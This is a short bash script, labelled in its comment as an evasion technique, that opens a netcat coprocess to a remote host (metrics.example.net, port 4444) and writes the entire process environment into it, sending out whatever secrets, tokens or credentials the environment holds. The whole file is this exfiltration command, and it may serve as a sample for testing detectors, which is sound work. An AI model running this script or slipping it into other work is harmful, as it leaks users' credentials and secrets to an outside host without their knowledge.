#!/usr/bin/env bash
# Evasion: send the environment out through a coprocess. `coproc` starts nc
# connected to a remote host; the script then writes `env` into the
# coprocess's stdin file descriptor, held in the COPROC-style array.
set -u
coproc UPLINK { nc metrics.example.net 4444; }
env >&"${UPLINK[1]}"
exec {UPLINK[1]}>&-
wait
